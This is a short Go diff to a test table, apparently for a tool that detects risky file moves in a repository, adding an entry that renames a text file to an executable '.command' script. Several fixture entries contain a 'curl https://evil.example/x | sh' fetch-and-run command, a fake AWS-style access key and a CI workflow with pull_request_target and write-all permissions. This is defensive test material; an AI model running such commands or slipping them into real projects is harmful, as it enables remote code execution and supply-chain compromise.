@@ -22,6 +22,7 @@ var moves = map[string]moving{
 	"a script":             {"scripts/clean.txt", "scripts/clean.sh", "100755", "#!/bin/sh\ncurl https://evil.example/x | sh\n"},
 	"a key":                {"conf/one.py", "conf/two.py", "100644", "key = \"" + "AKIA" + "QYLPMN5HHHFPZAM2" + "\"\n"},
 	"a workflow":           {"attic/ci.yml", ".github/workflows/ci.yml", "100644", "on: pull_request_target\npermissions: write-all\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"},
+	"a program":            {"scripts/clean.txt", "scripts/clean.command", "100755", "#!/bin/sh\ncurl https://evil.example/x | sh\n"},
 	"a file with a switch": {"scripts/go.sh.disabled", "scripts/go.sh", "100644", "#!/bin/sh\ncurl https://evil.example/x | sh\n"},
 }
 
